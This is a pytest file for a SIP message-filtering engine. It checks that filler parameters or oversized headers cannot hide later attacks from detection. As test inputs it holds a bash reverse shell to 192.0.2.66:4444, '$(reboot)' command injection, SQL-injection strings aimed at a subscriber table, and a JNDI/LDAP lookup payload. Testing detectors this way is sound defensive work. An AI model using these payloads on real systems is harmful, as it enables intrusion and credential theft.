"""A look at a message goes to its end, or says that it did not: nothing that stands first hides what comes after."""

from __future__ import annotations

from pathlib import Path

import pytest

from harness import invite, request
from sipsieve.config import policy
from sipsieve.decision.engine import Engine
from sipsieve.detection import ruleset
from sipsieve.model import Decision, Source, Verdict

SOURCE = Source("192.0.2.4", 5060, "udp", "192.0.2.4")
GUARD = Engine(policy.loads("[limits]\nenabled = false\n"), ruleset.load())

#: As many equal oddities as there are letters to name parameters by.
FILLER = "".join(f";{letter}=%00" for letter in "abcdefghijklmnopqrstuvwxyz")

#: Where such a run may stand, before all else or behind some of it.
FIRST = {
    "request_uri": lambda raw: raw.replace(b"sip:bob@example.com SIP", b"sip:bob@example.com" + FILLER.encode() + b" SIP"),
    "route": lambda raw: raw.replace(b"\r\nFrom:", b"\r\nRoute: <sip:192.0.2.9" + FILLER.encode() + b">\r\nFrom:"),
    "via": lambda raw: raw.replace(b"\r\nFrom:", b"\r\nVia: SIP/2.0/UDP h" + FILLER.encode() + b"\r\nFrom:"),
    "names": lambda raw: raw.replace(b"\r\nFrom:", b"\r\nReply-To: \"a\0b\" <sip:a@b>" * 20 + b"\r\nFrom:"),
}  # fmt: skip

#: What must be seen behind it.
SECOND = {
    "from.userinfo": ("<sip:alice@", "<sip:' or 1=1--@"),
    "from.display_name": ("From: ", "From: \"bash -i >& /dev/tcp/192.0.2.66/4444 0>&1\" "),
    "user-agent": ("Max-Forwards", "User-Agent: $(reboot)\r\nMax-Forwards"),
    "contact.userinfo": ("Max-Forwards", "Contact: <sip:$(reboot)@192.0.2.4>\r\nMax-Forwards"),
    "x-own": ("Max-Forwards", "X-Own: ' union select ha1 from subscriber--\r\nMax-Forwards"),
    "subject": ("Max-Forwards", "Subject: ${jndi:ldap://192.0.2.66/a}\r\nMax-Forwards"),
}  # fmt: skip


def decide(raw: bytes, guard: Engine = GUARD) -> Decision:
    class NoCounters:
        def knows_dialog(self, identity: int) -> bool:
            return False

    return guard.decide(raw, SOURCE, 0.0, NoCounters())  # type: ignore[arg-type]


def changed(raw: bytes, old: str, new: str) -> bytes:
    assert old.encode() in raw
    return raw.replace(old.encode(), new.encode(), 1)


@pytest.mark.parametrize("second", SECOND)
@pytest.mark.parametrize("first", FIRST)
def test_a_run_of_equal_oddities_hides_no_attack(first: str, second: str) -> None:
    plain = request("OPTIONS")
    raw = changed(FIRST[first](plain), *SECOND[second])
    assert raw != plain
    alone = {finding.rule for finding in decide(changed(plain, *SECOND[second])).findings if finding.score >= 5}
    assert alone
    decision = decide(raw)
    assert decision.verdict is Verdict.REJECT
    assert alone <= {finding.rule for finding in decision.findings}
    # A record shows the first eight.
    assert alone & {finding.rule for finding in decision.findings[:8]}


def test_an_attack_is_refused_also_where_what_stands_first_is_only_logged() -> None:
    guard = Engine(policy.loads('[limits]\nenabled = false\n[actions]\ncontrol = "log"\n'), ruleset.load())
    raw = FIRST["request_uri"](request("OPTIONS"))
    assert decide(raw, guard).verdict is Verdict.ALLOW
    assert decide(changed(raw, *SECOND["from.userinfo"]), guard).verdict is Verdict.REJECT


def test_all_of_many_hostile_names_are_taken_out() -> None:
    names = ["Reply-To: \"x' + 'y\" <sip:a@b>"] * 40
    decision = decide(request("OPTIONS", headers=tuple(names)))
    assert decision.verdict is Verdict.SCRUB
    assert decision.replacement is not None
    assert b"' + '" not in decision.replacement
    assert decision.replacement.count(b'"removed"') == 40


def reply(*headers: str) -> bytes:
    return request("INVITE", headers=headers).replace(b"INVITE sip:bob@example.com SIP/2.0", b"SIP/2.0 200 OK", 1)


def test_what_a_reply_holds_beyond_the_bounds_is_taken_out() -> None:
    # An answer is never refused, so what could not be looked at any more must not pass as it stands.
    filler = [f"X-{number}: {'%41' * 200}" for number in range(8)]
    decision = decide(reply(*filler, "Server: ' union select ha1 from subscriber--"))
    assert decision.verdict is Verdict.SCRUB
    assert decision.replacement is not None
    assert b"union" not in decision.replacement
    assert b"Server: removed\r\n" in decision.replacement


def test_an_answer_is_scrubbed_where_it_can_be_though_the_same_stands_where_it_can_not() -> None:
    raw = changed(reply("X-Own: $(reboot)"), "<sip:alice@", "<sip:$(reboot)@")
    decision = decide(raw)
    assert decision.verdict is Verdict.SCRUB
    assert decision.replacement is not None
    assert b"X-Own: removed" in decision.replacement


def test_a_request_that_can_not_be_read_to_its_end_is_refused() -> None:
    filler = [f"X-{number}: {'%41' * 200}" for number in range(8)]
    decision = decide(invite(headers=(*filler, "X-Last: fine")))
    assert decision.verdict is Verdict.REJECT
    assert "max_decoded_bytes" in decision.reason


def test_a_short_malformed_message_still_has_its_attack_named() -> None:
    raw = changed(request("OPTIONS", headers=("X-Fill: " + "%41" * 180,)), "CSeq: 1 OPTIONS", "CSeq: none")
    decision = decide(changed(raw, "Max-Forwards", "User-Agent: ' union select ha1 from subscriber--\r\nMax-Forwards"))
    rules = {finding.rule for finding in decision.findings}
    assert "cseq-format" in rules
    assert "value-overlong" not in rules
    assert "sql-union-select" in rules


@pytest.mark.parametrize("field", ["From", "X-Own"])
def test_an_own_rule_names_header_fields_in_any_case(tmp_path: Path, field: str) -> None:
    own = tmp_path / "own.toml"
    own.write_text(
        'family = "sip"\n[[rule]]\nid = "own-word"\npattern = "zyq"\nscore = 5\nreason = "not ours"\n'
        f'hits = ["zyq"]\nmisses = ["z"]\nheaders = ["{field}"]\n'
    )
    guard = Engine(policy.loads("[limits]\nenabled = false\n"), ruleset.load(own=[str(own)]))
    raw = changed(request("OPTIONS"), "From: ", 'From: "zyq" ').replace(b"Max-", b"X-Own: zyq\r\nMax-")
    assert [finding.field.split(".")[0] for finding in decide(raw, guard).findings] == [field.lower()]
